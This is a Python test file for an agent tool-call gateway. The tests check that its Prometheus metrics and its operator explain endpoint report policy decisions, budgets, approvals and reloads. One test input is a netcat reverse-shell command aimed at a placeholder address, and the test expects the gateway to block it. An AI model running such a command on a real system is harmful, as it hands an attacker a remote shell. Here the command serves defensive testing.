"""A /metrics scrape during real traffic shows every family; the operator explain endpoint."""

from __future__ import annotations

import asyncio
import re
from pathlib import Path
from typing import Any

import aiohttp

from gatekeeper.approvals.settings import ApprovalSettings
from gatekeeper.config import PolicyFiles

from ..helpers import H100, copy_policy_pack, invoke, make_config, mint, ops_auth, running, vote


def _value(text: str, name: str, labels: str = "") -> float:
    """Sum of a family's samples (optionally only those whose labels contain ``labels``)."""
    label_part = r"\{[^}]*" + re.escape(labels) + r"[^}]*\}" if labels else r"(?:\{[^}]*\})?"
    pattern = "^" + re.escape(name) + label_part + r" (\S+)$"
    values = [float(m.group(1)) for m in re.finditer(pattern, text, re.M)]
    assert values, f"{name} {labels} not in the scrape"
    return sum(values)


async def test_every_metric_family_has_sensible_values(
    tmp_path: Path, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    target = tmp_path / "policies"
    copy_policy_pack(target)
    with (target / "policy.csv").open("a") as fh:
        fh.write("p, agent, proc.exec:git, deny!shadow, True, a shadow rule to count disagreements\n")
    files = PolicyFiles(
        target / "model.conf", target / "policy.csv", target / "tools.yaml", target / "budgets.yaml"
    )
    settings = ApprovalSettings(default_wait_seconds=0.0, sweep_interval_seconds=0.05)
    async with running(make_config(tmp_path, policy=files, approvals=settings)) as gk:
        token = mint(gk)
        for _ in range(3):
            assert (await invoke(http, gk, "shell.exec", {"cmd": "git status"}, token))[0] == 200
        assert (await invoke(http, gk, "shell.exec", {"cmd": "nc -e /bin/sh 203.0.113.7 1"}, token))[0] == 403
        rome = {"gpu_type": "H100", "count": 8, "hours": 72}
        assert (await invoke(http, gk, "compute.provision", rome, token))[1]["code"] == "budget_exceeded"
        approval_id = (await invoke(http, gk, "compute.provision", H100, token))[1]["approval_id"]
        await invoke(http, gk, "compute.provision", {**H100, "count": 3}, token)  # stays pending
        await vote(http, gk, approval_id, "approve")
        with (target / "policy.csv").open("a") as fh:
            fh.write("p, agent, this line is broken\n")
        await gk.reloader.reload(reason="test")
        await asyncio.sleep(0.2)  # a sweep refreshes the pending gauge
        async with http.get(f"{gk.agent_url}/metrics") as resp:
            assert resp.status == 200 and resp.content_type == "text/plain"
            text = await resp.text()
    assert _value(text, "gatekeeper_decisions_total", 'outcome="allowed"') >= 3
    assert _value(text, "gatekeeper_decisions_total", 'outcome="denied"') >= 2
    assert _value(text, "gatekeeper_decisions_total", 'rule="policy.csv:') >= 1
    assert _value(text, "gatekeeper_decision_seconds_count") >= 6
    assert 0 < _value(text, "gatekeeper_decision_seconds_sum") < 10
    assert _value(text, "gatekeeper_upstream_seconds_count", 'upstream="demo"') >= 3
    assert _value(text, "gatekeeper_approvals_pending") == 1
    assert _value(text, "gatekeeper_approval_wait_seconds_count", 'result="approved"') == 1
    assert _value(text, "gatekeeper_budget_spent_total", 'rule="agent-shell-calls-hourly"') >= 3
    assert _value(text, "gatekeeper_budget_exceeded_total") >= 1
    assert _value(text, "gatekeeper_policy_version_info") == 1
    assert _value(text, "gatekeeper_policy_reloads_total", 'result="failed"') == 1
    assert _value(text, "gatekeeper_shadow_disagreements_total", 'shadow="deny"') >= 3
    assert _value(text, "gatekeeper_audit_lag_records") >= 0


async def test_explain_endpoint_shows_capabilities_rules_budgets_and_decision(
    tmp_path: Path, http: aiohttp.ClientSession, log_output: list[dict[str, Any]]
) -> None:
    async with running(make_config(tmp_path)) as gk:
        await invoke(http, gk, "compute.provision", {"gpu_type": "T4", "count": 1, "hours": 8}, mint(gk))
        body = {
            "tool": "compute.provision",
            "arguments": {"gpu_type": "T4", "count": 1, "hours": 8},
            "roles": ["agent"],
            "sub": "agent-1",
        }
        async with http.post(f"{gk.operator_url}/v1/explain", json=body, headers=ops_auth(gk)) as resp:
            assert resp.status == 200
            report = await resp.json()
        async with http.post(
            f"{gk.operator_url}/v1/explain", json=body, headers={"Authorization": f"Bearer {mint(gk)}"}
        ) as resp:
            assert resp.status == 401  # agents cannot ask how to get around the policy
    assert report["decision"]["outcome"] == "allow"
    assert "compute.gpu:T4" in [c["name"] if isinstance(c, dict) else c for c in report["capabilities"]]
    daily = next(b for b in report["budgets"] if b["rule"] == "agent-gpu-hours-per-principal-daily")
    assert (daily["amount"], daily["limit"], daily["used"]) == (8.0, 24.0, 8.0)
